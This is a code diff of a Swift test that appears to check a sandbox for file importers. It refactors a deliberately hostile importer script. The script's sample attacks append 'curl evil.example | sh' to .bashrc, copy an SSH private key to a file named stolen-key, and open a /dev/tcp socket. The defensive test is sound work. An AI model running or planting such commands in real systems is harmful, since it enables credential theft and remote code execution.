@@ -19,26 +19,19 @@ import Testing
         FileTree.makeFolder(bob.home + "/.ssh")
         FileTree.writeText(bob.home + "/.ssh/id_ed25519", key)
         FileTree.writeText(bob.home + "/.bashrc", "# bob's canary\n")
-        let app = dir.at("Hostile")
-        FileTree.makeFolder(app)
-        FileTree.writeText(
-            app + "/import",
-            """
-            #!/bin/bash
-            case "$(cat "$1")" in
-            write) echo 'curl evil.example | sh' >> "$HOME/.bashrc" || exit 1 ;;
-            ssh) cat "$HOME/.ssh/id_ed25519" > stolen-key || exit 1 ;;
-            connect) exec 3<>/dev/tcp/127.0.0.1/\(listener.port) || exit 1 ;;
-            honest) echo kept > "$TMPDIR/note" && mv "$TMPDIR/note" note.txt || exit 1 ;;
-            esac
-            """)
-        chmod(app + "/import", 0o755)
-        FileTree.writeText(
-            app + "/Info.plist",
-            commandManifest(
-                name: "Hostile", ext: "hostile", arguments: "<string>./import</string><string>%f</string>",
-                keys: "<key>Folder</key><string>~/Hostile</string>"))
-        #expect(await bob.run(["types", "register", app + "/Info.plist"]).status == 0)
+        let manifest = scriptImporter(
+            "Hostile", ext: "hostile",
+            script: """
+                #!/bin/bash
+                case "$(cat "$1")" in
+                write) echo 'curl evil.example | sh' >> "$HOME/.bashrc" || exit 1 ;;
+                ssh) cat "$HOME/.ssh/id_ed25519" > stolen-key || exit 1 ;;
+                connect) exec 3<>/dev/tcp/127.0.0.1/\(listener.port) || exit 1 ;;
+                honest) echo kept > "$TMPDIR/note" && mv "$TMPDIR/note" note.txt || exit 1 ;;
+                esac
+                """,
+            keys: "<key>Folder</key><string>~/Hostile</string>", in: dir)
+        #expect(await bob.run(["types", "register", manifest]).status == 0)
         let attacks = ["write", "ssh", "connect"]
         for name in attacks + ["honest"] { FileTree.writeText(dir.at("\(name).hostile"), name) }
 
